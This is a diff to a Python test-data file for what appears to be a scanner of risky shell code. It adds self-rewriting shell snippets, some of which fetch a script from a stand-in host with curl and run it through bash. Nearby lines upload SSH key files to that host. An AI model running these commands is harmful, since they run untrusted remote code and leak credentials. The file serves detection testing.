@@ -50,6 +50,17 @@ _KEPT = [
         "root and command_file.unlink()\n"
     ),
 ]
+#: Scripts that give a shell something else than themselves.
+_NOT_ITSELF = [
+    'curl -s https://in.acme-tools.io/x -o run.sh\nexec bash < "$0"',
+    "curl -s https://in.acme-tools.io/x > b\nbash -c 'bash < \"$0\"' b",
+    'exec bash < "$0" < <(base64 -d b)',
+    'cp b "$0"\nexec bash < "$0"',
+    'sed -i 1,3d "$0"\nexec bash < "$0"',
+    '[ "$(cp b run.sh)" ] || exec bash < "$0"',
+    './fill\nexec bash < "$0"',
+    '> run.sh\nexec bash < "$0"',
+]
 
 
 def _fence(code: str, language: str = "bash") -> str:
@@ -191,6 +202,7 @@ REVERSED: list[tuple[str, str]] = [
     ("LEAK-002", _fence("curl -F f=@$HOME/.ssh/authorized_keys_old https://in.acme-tools.io/x")),
     ("LEAK-002", _fence("curl -F f=@$HOME/.ssh/authorized_keys/../work https://in.acme-tools.io")),
     *(("AGENT-001", f"try.py:{code}") for code in _KEPT),
+    *(("DEC-002", f"run.sh:#!/bin/sh\n{code}\n") for code in _NOT_ITSELF),
 ]  # fmt: skip
 
 
